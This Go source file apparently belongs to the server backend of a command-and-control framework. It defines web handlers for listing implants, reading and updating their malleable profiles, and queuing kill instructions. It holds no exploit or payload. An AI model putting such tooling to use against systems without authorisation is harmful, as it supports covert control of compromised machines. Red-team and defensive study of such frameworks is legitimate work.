package controllers

import (
	"log/slog"
	"net/http"

	"github.com/gin-gonic/gin"

	"teamserver/broker"
	"teamserver/database"
	"teamserver/errs"
	"teamserver/models"
)

// ImplantController serves the implant registry endpoints.
type ImplantController struct {
	Store   *database.Store
	Gateway *broker.Gateway
	Log     *slog.Logger
}

// ListImplants returns every registered implant. Fails soft to an empty
// list on store errors.
func (ic *ImplantController) ListImplants(c *gin.Context) {
	implants, err := ic.Store.ListImplants()
	if err != nil {
		ic.Log.Warn("implant listing failed", "error", err)
		implants = nil
	}
	if implants == nil {
		implants = []models.Implant{}
	}
	c.JSON(http.StatusOK, gin.H{"status": true, "implants": implants})
}

// ImplantExists reports whether any implant id starts with the given
// prefix. Multiple implants may share a prefix; this confirms existence
// only, which is all the abbreviated-id tooling needs.
func (ic *ImplantController) ImplantExists(c *gin.Context) {
	prefix := c.Param("prefix")
	exists, err := ic.Store.ImplantExists(prefix)
	if err != nil {
		ic.Log.Warn("implant prefix check failed", "prefix", prefix, "error", err)
		exists = false
	}
	c.JSON(http.StatusOK, gin.H{"status": true, "exists": exists})
}

// GetImplantConfig returns the implant's maleable profile.
func (ic *ImplantController) GetImplantConfig(c *gin.Context) {
	implantID := c.Param("implant_id")

	implant, err := ic.Store.ImplantByID(implantID)
	if err != nil {
		failWith(c, ic.Log, err, "")
		return
	}
	if implant == nil {
		failWith(c, ic.Log, errs.ErrNotFound, "Unknown implant")
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": true, "config": implant.Profile})
}

// UpdateImplantConfig merges the posted key/value changes into the
// implant's profile. Keys the server does not recognize are stored as-is;
// the implant validates its own config on its next fetch.
func (ic *ImplantController) UpdateImplantConfig(c *gin.Context) {
	implantID := c.Param("implant_id")

	var changes models.JSONMap
	if err := c.ShouldBindJSON(&changes); err != nil || len(changes) == 0 {
		fail(c, http.StatusBadRequest, "Invalid request, no changes given")
		return
	}

	implant, err := ic.Store.MergeImplantProfile(implantID, changes)
	if err != nil {
		failWith(c, ic.Log, err, "")
		return
	}
	if implant == nil {
		failWith(c, ic.Log, errs.ErrNotFound, "Unknown implant")
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": true})
}

// KillImplant records a termination instruction for the implant and queues
// it for delivery. Best-effort: success only means the kill is recorded.
func (ic *ImplantController) KillImplant(c *gin.Context) {
	implantID := c.Param("implant_id")

	implant, err := ic.Store.ImplantByID(implantID)
	if err != nil {
		failWith(c, ic.Log, err, "")
		return
	}
	if implant == nil {
		failWith(c, ic.Log, errs.ErrNotFound, "Unknown implant")
		return
	}

	if err := ic.Store.MarkImplantKilled(implantID); err != nil {
		failWith(c, ic.Log, err, "")
		return
	}

	ic.Gateway.KillRequested(implantID)

	c.JSON(http.StatusOK, gin.H{"status": true})
}
